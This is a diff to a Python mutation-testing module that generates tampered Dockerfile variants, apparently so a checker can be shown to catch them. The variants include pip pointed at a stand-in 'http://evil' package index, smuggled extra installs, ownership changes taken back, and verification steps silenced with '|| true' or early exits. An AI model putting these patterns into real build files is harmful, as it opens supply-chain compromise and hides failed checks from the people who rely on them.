@@ -15,9 +15,14 @@ def mutants(good: Good) -> Iterator[Mutant]:
     yield from _markers(good.design)
     yield from _pip(good.design)
     yield from _builder_verification(good.design)
+    yield from _ignored_verification(good.design)
 
 
 def _markers(design: Design) -> Iterator[Mutant]:
+    followers = {
+        "directories": ["builder.marker.runtime-directory", "builder.marker.lib-directory"],
+        "packages": ["builder.marker.packages", "builder.marker.binaries"],
+    }
     for marker in design.markers:
         kills = f"builder.marker.{marker.slug}"
         misses = {"case": marker.text.lower(), "longer": f"{marker.text}_", "part": marker.text[:-1], "empty": ""}
@@ -51,6 +56,13 @@ def _markers(design: Design) -> Iterator[Mutant]:
             f"builder.marker.{slug}.elsewhere", "the marker has another name", kills, redirection, f"{redirection}er"
         )
         yield docker(f"builder.marker.{slug}.no-redirection", "the marker is printed", kills, f" {redirection}", "")
+        yield docker(
+            f"builder.marker.{slug}.quoted-redirection",
+            "the marker is printed, its path too",
+            kills,
+            redirection,
+            redirection.replace(">", "'>'"),
+        )
     chown = "chown -R 65532:65532 /var/run /var/lib"
     for miss, text in {
         "root": "chown -R 0:0 /var/run /var/lib",
@@ -71,6 +83,31 @@ def _markers(design: Design) -> Iterator[Mutant]:
     }.items():
         yield docker(f"builder.packages.owner.{miss}", text, "builder.marker.packages-owner", chown, text)
 
+    for slug, chown in {
+        "directories": "chown -R 65532:65532 /var/run /var/lib",
+        "packages": "chown -R 65532:65532 /root/.local",
+    }.items():
+        last = chown.rpartition(" ")[2]
+        for miss, text in {
+            "ignored": f"{chown} || true",
+            "skipped": f"false && {chown} || true",
+            "comment": f"true # && {chown}",
+            "after-exit": f"exit 0 && {chown}",
+            "taken-back": f"{chown} && chown -R 0:0 {last}",
+            "taken-back-inside": f"{chown} && chown 0:0 {last}/lib",
+            "taken-back-around": f"{chown}\n\nRUN chgrp --recursive 0 {last.rpartition('/')[0] or '/'}",
+            "taken-back-pattern": f"{chown} && chown -R 0 {last[:-1]}*",
+            "taken-back-found": f"{chown}\n\nRUN find {last} -exec chown 0:0 {{}} +",
+        }.items():
+            yield docker(
+                f"builder.{slug}.owner.{miss}",
+                text.replace("\n\n", "; "),
+                f"builder.marker.{slug}-owner",
+                f"    {chown}\n",
+                f"    {text}\n",
+                follows=followers[slug] if miss in ("ignored", "skipped") else (),
+            )
+
 
 def _pip(design: Design) -> Iterator[Mutant]:
     site, scripts = design.dockerfile.user_site, design.dockerfile.user_scripts
@@ -86,6 +123,7 @@ def _pip(design: Design) -> Iterator[Mutant]:
         "builder.pip.install",
         [f"builder.pip.flag.{item.slug}" for item in design.collection("dockerfile.pip_flags")],
     )
+    side = ["builder.pip.flag.no-cache-dir", "builder.pip.flag.prefer-binary"]
     for miss, text in {
         "more": f"{line} && pip install --user extra",
         "other-file": line.replace("requirements", "other"),
@@ -101,7 +139,7 @@ def _pip(design: Design) -> Iterator[Mutant]:
                 install,
                 line,
                 f"pip install --user extra && {line}",
-                follows=["builder.pip.flag.no-cache-dir", "builder.pip.flag.prefer-binary"],
+                follows=side,
             )
             continue
         yield docker(f"pip.install.{miss}", text, kills, line, text)
@@ -112,7 +150,53 @@ def _pip(design: Design) -> Iterator[Mutant]:
         "RUN python3 -c",
         "RUN pip install --user extra\n\nRUN python3 -c",
         nth=0,
+        follows=side,
     )
+    for miss, text in {
+        "pip3": "pip3 install --user extra",
+        "pip3.11": "pip3.11 install --user extra",
+        "path": "/usr/local/bin/pip install --user extra",
+        "module": "python3 -m pip install --user extra",
+        "option-first": "pip --no-input install --user extra",
+        "variable": "PIP_INDEX_URL=http://evil pip install --user extra",
+        "env": "env A=1 pip install --user extra",
+        "brackets": "(pip install --user extra)",
+        "condition": "if true; then pip install --user extra; fi",
+        "shell": "sh -c 'pip install --user extra'",
+        "substituted": 'echo "$(pip install --user extra)"',
+        "here-document": "<<EOF\npip install --user extra\nEOF",
+        "json-form": '["pip", "install", "--user", "extra"]',
+    }.items():
+        yield docker(
+            f"pip.second-run.{miss}",
+            f"RUN {text}",
+            install,
+            "COPY monitor_service/resource_monitor",
+            f"RUN {text}\n\nCOPY monitor_service/resource_monitor",
+            follows=side,
+        )
+    for miss, text in {
+        "ignored": f"{line} || true",
+        "ignored-by-next": f"{line}; true",
+        "background": f"{line} &",
+        "piped": f"{line} | cat",
+        "index": line.replace("-r ", "--index-url http://evil/ -r "),
+        "index-short": line.replace("-r ", "-ihttp://evil/ -r "),
+        "index-abbreviated": line.replace("-r ", "--index=http://evil/ -r "),
+        "extra-index": line.replace("-r ", "--extra-index-url=http://evil/ -r "),
+        "package-before": line.replace("-r ", "extra -r "),
+        "second-file": line.replace("-r ", "--requirement=other.txt -r "),
+        "exported": f"export PIP_INDEX_URL=http://evil/ && {line}",
+    }.items():
+        yield docker(f"pip.install.{miss}", text, install, line, text)
+    for keyword, setting in {"ENV": "PIP_INDEX_URL=http://evil/", "ARG": "PIP_EXTRA_INDEX_URL"}.items():
+        yield docker(
+            f"pip.install.{keyword.lower()}",
+            f"{keyword} {setting}",
+            install,
+            "COPY monitor_service/requirements",
+            f"{keyword} {setting}\nCOPY monitor_service/requirements",
+        )
     yield docker(
         "pip.echoed", "pip install is printed, not run", [install, *flags, "builder.pip.cache"], line, f"echo {line}"
     )
@@ -187,3 +271,45 @@ def _builder_verification(design: Design) -> Iterator[Mutant]:
             "negated": f"! test {test} {path} &&",
         }.items():
             yield docker(f"builder.verify.{id_}.{miss}", text, f"builder.verify.{id_}", old, text)
+
+
+def _ignored_verification(design: Design) -> Iterator[Mutant]:
+    packages = [package.slug for package in design.site_packages.packages]
+    line, location = f'"import {", ".join(packages)}; print(', '"import uvicorn; print('
+    site = design.dockerfile.user_site
+    marker = f"{site}/.lucid-marker"
+    proofs = [
+        *(f"builder.verify.import.{name}" for name in packages),
+        "builder.verify.uvicorn-location",
+        *("builder.verify.directory", "builder.verify.marker", "builder.verify.marker-content"),
+    ]
+    end = '    echo "✅ Marker file verified in builder (non-empty)"\n'
+    for miss, text in {
+        "ignored": end.replace("\n", " || true\n"),
+        "ignored-by-next": end.replace("    echo", "    true; echo"),
+        "piped": end.replace("\n", " | cat\n"),
+    }.items():
+        yield docker(f"builder.verify.{miss}", f"what is proved is {miss}", proofs, end, text)
+
+    def each_ignored(draft: Draft) -> None:
+        for test, path in (("-d", site), ("-f", marker), ("-s", marker)):
+            draft.docker(f"test {test} {path} &&", f"test {test} {path} || true;")
+        in_stage(draft, BUILDER, 'uvicorn.__file__)" &&', 'uvicorn.__file__)" || true;')
+        in_stage(draft, BUILDER, "packages installed')\" &&", "packages installed')\" ||")
+
+    yield mutant("builder.verify.each-ignored", "whatever fails to be proved is ignored", proofs, each_ignored)
+    for miss, begin in {"exit": "import sys; sys.exit(0); ", "condition": "if False: "}.items():
+        yield docker(
+            f"builder.verify.import.{miss}",
+            f"what imports begins with {begin.strip()}",
+            [f"builder.verify.import.{name}" for name in packages if name != "uvicorn"],
+            line,
+            line.replace('"', f'"{begin}'),
+        )
+    yield docker(
+        "builder.verify.location.exit",
+        "the program ends before it prints the location",
+        "builder.verify.uvicorn-location",
+        location,
+        location.replace('"', '"exit(); '),
+    )
